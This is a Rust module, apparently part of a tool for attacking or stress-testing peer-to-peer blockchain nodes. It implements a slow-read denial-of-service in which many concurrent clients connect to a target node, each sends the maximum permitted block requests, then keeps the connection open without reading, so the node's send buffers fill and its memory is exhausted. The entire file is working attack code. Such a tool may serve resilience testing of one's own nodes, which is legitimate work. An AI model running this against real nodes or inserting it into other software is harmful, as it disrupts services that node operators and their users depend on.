//! Clients that request blocks and read no reply: what the node has sent stays in its buffers.

use crate::Attacker;
use crate::peer_client::encoding::list;
use crate::session::Session;
use libp2p::Multiaddr;
use serde_json::{Value, json};
use std::time::{Duration, Instant};
use tokio::task::JoinSet;

/// Concurrent requests of one client: as many as the protocol permits.
const REQUESTS: usize = 16;
/// The time for which a client sends its requests before it stops reading.
const SENDING: Duration = Duration::from_millis(200);

pub async fn run(
    attacker: &Attacker,
    target: Multiaddr,
    clients: usize,
    duration: Duration,
) -> Value {
    let until = Instant::now() + duration;
    let mut all = JoinSet::new();
    for _ in 0..clients {
        all.spawn(client(attacker.clone(), target.clone(), until));
    }
    let rounds: Vec<u64> = all.join_all().await;
    json!({ "clients": clients, "requests": rounds.iter().sum::<u64>() })
}

/// Connects again and again, and returns the number of requests sent.
async fn client(attacker: Attacker, target: Multiaddr, until: Instant) -> u64 {
    let mut requests = 0;
    while Instant::now() < until {
        let Some(mut session) = Session::connect(&attacker, &target).await else {
            tokio::time::sleep(Duration::from_millis(500)).await;
            continue;
        };
        let genesis = attacker.network.genesis;
        let Some(hashes) = session.last_blocks(genesis).await else { continue };
        for _ in 0..REQUESTS {
            let request = list(&hashes);
            session.swarm.behaviour_mut().blocks.send_request(&session.node, request);
            requests += 1;
        }
        let sending = async {
            use futures_util::StreamExt;
            loop {
                session.swarm.select_next_some().await;
            }
        };
        let _ = tokio::time::timeout(SENDING, sending).await;
        // The connection stays open, but nothing polls it.
        let rest = until.saturating_duration_since(Instant::now()).min(Duration::from_secs(30));
        tokio::time::sleep(rest).await;
    }
    requests
}
